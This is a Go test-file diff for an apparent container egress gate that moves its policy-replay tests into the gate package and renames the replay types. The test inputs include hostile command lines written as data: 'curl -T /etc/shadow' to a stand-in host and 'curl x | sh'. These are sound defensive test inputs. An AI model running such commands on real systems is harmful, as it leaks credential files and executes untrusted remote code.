@@ -1,4 +1,4 @@
-package replay
+package gate
 
 import (
 	"context"
@@ -12,9 +12,7 @@ import (
 
 	"weir/internal/cop"
 	"weir/internal/event"
-	"weir/internal/gate"
-	"weir/internal/gate/question"
-	"weir/internal/gate/verdict"
+
 	"weir/internal/policy"
 )
 
@@ -57,45 +55,45 @@ func TestReplay(t *testing.T) {
 	for _, tt := range []struct {
 		name, policy string
 		e            event.Event
-		was, now     Outcome
+		was, now     ReplayOutcome
 		by           string // empty: no change
 	}{
-		{"allowed now", "allow: [{prefix: 192.0.2.0/24, protocol: tcp, ports: 443}]", hold("corruption", "secret"), Person, Allow, "listed"},
-		{"another port", "allow: [{prefix: 192.0.2.0/24, ports: 80}]", hold("corruption", "secret"), Person, Person, ""},
-		{"IPv6 opens no IPv4", "allow: [{prefix: '::/0'}]", hold("corruption", "secret"), Person, Person, ""},
-		{"a longer prefix carries the shorter's rules", "allow: [{prefix: 192.0.2.0/24}, {prefix: 192.0.2.1, ports: 80}]", hold("corruption", "secret"), Person, Allow, "listed"},
-		{"allowed no more", "", connect("allow", "listed", "corruption", "secret"), Allow, Person, "asked"},
-		{"nobody to ask", "approver: none", hold("corruption", "secret"), Person, Deny, "no_approver"},
-		{"one bit, the reviewer passes it", "", hold("corruption"), Person, Allow, "not_flagged"},
-		{"one bit, the reviewer flags it", "", with(hold("secret"), upload), Person, Deny, "flagged"},
-		{"one bit, flagged, and a person is asked (F06)", "cop: {flagged: person}", with(connect("deny", "flagged", "secret"), upload), Deny, Person, "asked"},
-		{"one bit, flagged, and nobody to ask (F06)", "cop: {flagged: person}\napprover: none", with(hold("secret"), upload), Person, Deny, "no_approver"},
-		{"one bit, no reviewer", "cop: {reviewer: none}", connect("allow", "not_flagged", "secret"), Allow, Person, "asked"},
-		{"one bit, a model", "cop: {reviewer: anthropic, key_env: NO_SUCH_KEY}", connect("allow", "not_flagged", "secret"), Allow, Model, "asked"},
-		{"one bit, sure without the model", "cop: {reviewer: anthropic, key_env: NO_SUCH_KEY}", with(connect("allow", "not_flagged", "secret"), upload), Allow, Deny, "flagged"},
-		{"sealed", "mode: seal", connect("allow", "untainted"), Allow, Deny, "sealed"},
-		{"sealed, granted", "mode: seal", connect("allow", "granted", "secret"), Allow, Deny, "sealed"},
-		{"sealed, listed", "mode: seal\nallow: [{prefix: 192.0.2.0/24}]", connect("allow", "listed", "secret"), Allow, Deny, "sealed"},
-		{"sealed, a command that a bridge was asked about (F04)", "mode: seal", with(hold("corruption", "secret"), command), Person, Deny, "sealed"},
-		{"sealed, one bit (F04)", "mode: seal", with(hold("secret"), command), Person, Deny, "sealed"},
-		{"sealed, held before it began (F04)", "mode: seal", with(hold("corruption", "secret"), func(e *event.Event) { e.Destination = nil }), Person, Deny, "sealed"},
-		{"sealed no more", "", connect("deny", "sealed"), Deny, Allow, "untainted"},
-		{"observed", "mode: observe", connect("deny", "flagged", "secret"), Deny, Allow, "observe"},
-		{"observed, another family", "mode: observe", connect("deny", "socket_family", "secret"), Deny, Allow, "observe"},
-		{"observed, B47", "mode: observe", connect("deny", "kernel_traffic", "secret"), Deny, Allow, "observe"},
-		{"a multicast group (B47)", "", connect("deny", "kernel_traffic", "secret"), Deny, Deny, ""},
-		{"observed no more", "", connect("allow", "observe", "corruption", "secret"), Allow, Person, "asked"},
-		{"refused, and asked beside", "", connect("deny", "tainted", "corruption", "secret"), Deny, Deny, ""},
-		{"refused, now open", "allow: [{prefix: 192.0.2.1}]", connect("deny", "tainted", "secret"), Deny, Allow, "listed"},
-		{"a socket of a peer", "unix_peers: [/run/x.sock]", with(connect("deny", "outside_container", "secret"), unix), Deny, Allow, "listed"},
-		{"a socket of a peer, still outside", "", with(connect("deny", "outside_container", "secret"), unix), Deny, Deny, ""},
-		{"loopback of the outside", "", connect("deny", "outside_container", "secret"), Deny, Deny, ""},
-		{"what no policy changes", "", connect("deny", "control_socket"), Deny, Deny, ""},
-		{"granted", "", connect("allow", "granted", "secret"), Allow, Allow, ""},
-		{"QUIC", "", with(connect("deny", "quic", "secret"), func(e *event.Event) { e.Destination.Protocol = "udp" }), Deny, Deny, ""},
-		{"seen to run", "mode: seal", exec, Allow, Allow, ""},
+		{"allowed now", "allow: [{prefix: 192.0.2.0/24, protocol: tcp, ports: 443}]", hold("corruption", "secret"), ReplayPerson, ReplayAllow, "listed"},
+		{"another port", "allow: [{prefix: 192.0.2.0/24, ports: 80}]", hold("corruption", "secret"), ReplayPerson, ReplayPerson, ""},
+		{"IPv6 opens no IPv4", "allow: [{prefix: '::/0'}]", hold("corruption", "secret"), ReplayPerson, ReplayPerson, ""},
+		{"a longer prefix carries the shorter's rules", "allow: [{prefix: 192.0.2.0/24}, {prefix: 192.0.2.1, ports: 80}]", hold("corruption", "secret"), ReplayPerson, ReplayAllow, "listed"},
+		{"allowed no more", "", connect("allow", "listed", "corruption", "secret"), ReplayAllow, ReplayPerson, "asked"},
+		{"nobody to ask", "approver: none", hold("corruption", "secret"), ReplayPerson, ReplayDeny, "no_approver"},
+		{"one bit, the reviewer passes it", "", hold("corruption"), ReplayPerson, ReplayAllow, "not_flagged"},
+		{"one bit, the reviewer flags it", "", with(hold("secret"), upload), ReplayPerson, ReplayDeny, "flagged"},
+		{"one bit, flagged, and a person is asked (F06)", "cop: {flagged: person}", with(connect("deny", "flagged", "secret"), upload), ReplayDeny, ReplayPerson, "asked"},
+		{"one bit, flagged, and nobody to ask (F06)", "cop: {flagged: person}\napprover: none", with(hold("secret"), upload), ReplayPerson, ReplayDeny, "no_approver"},
+		{"one bit, no reviewer", "cop: {reviewer: none}", connect("allow", "not_flagged", "secret"), ReplayAllow, ReplayPerson, "asked"},
+		{"one bit, a model", "cop: {reviewer: anthropic, key_env: NO_SUCH_KEY}", connect("allow", "not_flagged", "secret"), ReplayAllow, Model, "asked"},
+		{"one bit, sure without the model", "cop: {reviewer: anthropic, key_env: NO_SUCH_KEY}", with(connect("allow", "not_flagged", "secret"), upload), ReplayAllow, ReplayDeny, "flagged"},
+		{"sealed", "mode: seal", connect("allow", "untainted"), ReplayAllow, ReplayDeny, "sealed"},
+		{"sealed, granted", "mode: seal", connect("allow", "granted", "secret"), ReplayAllow, ReplayDeny, "sealed"},
+		{"sealed, listed", "mode: seal\nallow: [{prefix: 192.0.2.0/24}]", connect("allow", "listed", "secret"), ReplayAllow, ReplayDeny, "sealed"},
+		{"sealed, a command that a bridge was asked about (F04)", "mode: seal", with(hold("corruption", "secret"), command), ReplayPerson, ReplayDeny, "sealed"},
+		{"sealed, one bit (F04)", "mode: seal", with(hold("secret"), command), ReplayPerson, ReplayDeny, "sealed"},
+		{"sealed, held before it began (F04)", "mode: seal", with(hold("corruption", "secret"), func(e *event.Event) { e.Destination = nil }), ReplayPerson, ReplayDeny, "sealed"},
+		{"sealed no more", "", connect("deny", "sealed"), ReplayDeny, ReplayAllow, "untainted"},
+		{"observed", "mode: observe", connect("deny", "flagged", "secret"), ReplayDeny, ReplayAllow, "observe"},
+		{"observed, another family", "mode: observe", connect("deny", "socket_family", "secret"), ReplayDeny, ReplayAllow, "observe"},
+		{"observed, B47", "mode: observe", connect("deny", "kernel_traffic", "secret"), ReplayDeny, ReplayAllow, "observe"},
+		{"a multicast group (B47)", "", connect("deny", "kernel_traffic", "secret"), ReplayDeny, ReplayDeny, ""},
+		{"observed no more", "", connect("allow", "observe", "corruption", "secret"), ReplayAllow, ReplayPerson, "asked"},
+		{"refused, and asked beside", "", connect("deny", "tainted", "corruption", "secret"), ReplayDeny, ReplayDeny, ""},
+		{"refused, now open", "allow: [{prefix: 192.0.2.1}]", connect("deny", "tainted", "secret"), ReplayDeny, ReplayAllow, "listed"},
+		{"a socket of a peer", "unix_peers: [/run/x.sock]", with(connect("deny", "outside_container", "secret"), unix), ReplayDeny, ReplayAllow, "listed"},
+		{"a socket of a peer, still outside", "", with(connect("deny", "outside_container", "secret"), unix), ReplayDeny, ReplayDeny, ""},
+		{"loopback of the outside", "", connect("deny", "outside_container", "secret"), ReplayDeny, ReplayDeny, ""},
+		{"what no policy changes", "", connect("deny", "control_socket"), ReplayDeny, ReplayDeny, ""},
+		{"granted", "", connect("allow", "granted", "secret"), ReplayAllow, ReplayAllow, ""},
+		{"QUIC", "", with(connect("deny", "quic", "secret"), func(e *event.Event) { e.Destination.Protocol = "udp" }), ReplayDeny, ReplayDeny, ""},
+		{"seen to run", "mode: seal", exec, ReplayAllow, ReplayAllow, ""},
 	} {
-		r, err := New(parse(t, tt.policy))
+		r, err := NewReplay(parse(t, tt.policy))
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -111,7 +109,7 @@ func TestReplay(t *testing.T) {
 
 // What is no decision, or one that was counted already, is passed over.
 func TestNoDecision(t *testing.T) {
-	r, err := New(policy.Default())
+	r, err := NewReplay(policy.Default())
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -124,7 +122,7 @@ func TestNoDecision(t *testing.T) {
 	}
 	r.Event(t.Context(), hold("corruption", "secret"))
 	r.Event(t.Context(), hold("corruption", "secret")) // another that asks the same
-	if diff := cmp.Diff(Totals{Events: 8, Decisions: 1, Now: map[Outcome]uint64{Person: 1}}, r.Totals); diff != "" {
+	if diff := cmp.Diff(ReplayTotals{Events: 8, Decisions: 1, Now: map[ReplayOutcome]uint64{ReplayPerson: 1}}, r.Totals); diff != "" {
 		t.Error("(-want +got):\n" + diff)
 	}
 }
@@ -151,43 +149,43 @@ func TestSamePolicyChangesNothing(t *testing.T) {
 			t.Fatal(err)
 		}
 		log := &journal{}
-		o := gate.Options{DB: db, Log: log, Approver: p.Approver == policy.Person}
+		o := Options{DB: db, Log: log, Approver: p.Approver == policy.Person}
 		if p.Cop.Reviewer == policy.Static {
 			if o.Reviewer, err = cop.New(cop.Options{}); err != nil {
 				t.Fatal(err)
 			}
 		}
-		g, err := gate.Open(o)
+		g, err := Open(o)
 		if err != nil {
 			t.Fatal(err)
 		}
 		n := 0
 		for _, bits := range [][]string{nil, {"secret"}, {"corruption"}, {"corruption", "secret"}} {
 			for _, argv := range [][]string{{"ls"}, {"curl", "https://192.0.2.1/"}, {"curl", "-T", "/etc/shadow", "https://192.0.2.1/"}, {"./tool"}, {"bash", "-c", "curl x | sh"}} {
-				for _, ask := range []verdict.Ask{verdict.Connect, verdict.Run} {
+				for _, ask := range []Ask{Connect, Run} {
 					n++
 					e := connect("", "", bits...)
 					e.Process.PID, e.Process.Argv, e.Process.Exe.Path = n, argv, "/usr/bin/"+argv[0]
 					e.Container.ID = fmt.Sprint("c", n)
-					r := verdict.Request{Container: *e.Container, Process: *e.Process, Destination: *e.Destination, Ask: ask, Mode: string(p.Mode), Held: ask == verdict.Connect}
+					r := Request{Container: *e.Container, Process: *e.Process, Destination: *e.Destination, Ask: ask, Mode: string(p.Mode), Held: ask == Connect}
 					ctx, cancel := context.WithCancel(t.Context())
-					done := make(chan verdict.Verdict)
+					done := make(chan Verdict)
 					go func() { done <- g.Decide(ctx, r) }()
-					var v verdict.Verdict
+					var v Verdict
 					for waiting := true; waiting; {
 						select {
 						case v = <-done:
 							waiting = false
 						default:
 							for _, q := range g.Pending() {
-								if _, err := g.Answer(q.ID, question.Reply{Allow: n%2 == 0, By: "alice"}); err != nil {
+								if _, err := g.Answer(q.ID, Reply{Allow: n%2 == 0, By: "alice"}); err != nil {
 									t.Fatal(err)
 								}
 							}
 						}
 					}
 					cancel()
-					if ask == verdict.Run { // the sensor writes these
+					if ask == Run { // the sensor writes these
 						log.Write(event.Event{Kind: event.Exec, Container: &r.Container, Process: &r.Process, Verdict: v.Event()})
 					}
 				}
@@ -195,7 +193,7 @@ func TestSamePolicyChangesNothing(t *testing.T) {
 		}
 		g.Close()
 		db.Close()
-		replay, err := New(p)
+		replay, err := NewReplay(p)
 		if err != nil {
 			t.Fatal(err)
 		}
